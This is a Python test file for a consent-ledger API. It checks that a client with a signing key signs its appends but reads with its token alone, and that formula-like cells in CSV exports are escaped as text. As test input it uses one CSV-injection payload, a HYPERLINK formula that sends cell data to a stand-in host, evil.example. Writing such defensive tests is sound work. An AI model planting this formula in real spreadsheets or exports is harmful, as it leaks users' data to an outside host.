"""Two rules docs/api.md states, held by a real server on both backends: a client with a
signing key signs its appends and reads with its token alone; CSV cells that a spreadsheet would
run as formulas are written as text."""

from __future__ import annotations

import base64
import csv
import io
import time
from pathlib import Path

import orjson
from click.testing import CliRunner
from nacl.signing import SigningKey

from api.cli import cli
from ledger.config import Settings
from ledger.verifier.spreadsheet import FORMULA_STARTS
from tests import facts
from tests.support.limited_server import serving

API_DOC = (Path(__file__).resolve().parents[2] / "docs" / "api.md").read_text()


def set_key(settings: Settings, key: SigningKey) -> None:
    args = ["--data-dir", str(settings.data_dir)]
    if settings.database_url:
        args += ["--database-url", settings.database_url]
    public = base64.b64encode(bytes(key.verify_key)).decode()
    done = CliRunner().invoke(
        cli,
        [*args, "clients", "set-key", "writer", public],
        env={"CONSENT_LEDGER_DATABASE_SCHEMA": settings.database_schema},
    )
    assert done.exit_code == 0, done.output


def test_a_signing_client_signs_appends_and_reads_with_its_token_as_documented(
    settings: Settings,
) -> None:
    signed_section = API_DOC.split("## Signed requests", 1)[1].split("\n## ", 1)[0]
    assert "every append" in signed_section
    assert "Reads (`GET`) need the bearer" in signed_section and "token only" in signed_section
    assert "every request it sends must carry" not in signed_section

    key = SigningKey.generate()
    pol = facts.policy()
    rcpt = facts.ref("rcpt")
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    body = orjson.dumps(
        [
            pol,
            facts.recipient(rcpt, name=formula),
            facts.consent(facts.ref("user"), pol["version"]),
        ]
    )
    with serving(settings) as server:
        set_key(settings, key)
        with server.client() as http:
            unsigned = http.post("/v1/events", content=body)
            assert unsigned.status_code == 401
            assert "signs its appends" in unsigned.json()["detail"]
            signature = base64.b64encode(key.sign(body).signature).decode()
            signed = http.post(
                "/v1/events", content=body, headers={"Content-Signature": f"ed25519={signature}"}
            )
            assert signed.status_code == 201
            assert http.get("/v1/events/1").status_code == 200  # a read: the token is enough

            disclosure = orjson.dumps(facts.disclosure(rcpt, [facts.ref("user")], pol["version"]))
            signature = base64.b64encode(key.sign(disclosure).signature).decode()
            assert (
                http.post(
                    "/v1/events",
                    content=disclosure,
                    headers={"Content-Signature": f"ed25519={signature}"},
                ).status_code
                == 201
            )
            deadline = time.monotonic() + 15
            while True:  # the register has no wait_for: until the read model has the row
                answer = http.get("/v1/disclosures", params={"format": "csv", "recipient": rcpt})
                assert answer.status_code == 200, answer.text
                if len(answer.text.splitlines()) > 1 or time.monotonic() > deadline:
                    break
                time.sleep(0.2)
    rows = list(csv.reader(io.StringIO(answer.text)))
    assert len(rows) == 2
    assert [c for row in rows for c in row if c.startswith(FORMULA_STARTS)] == []
    assert "'" + formula in rows[1]
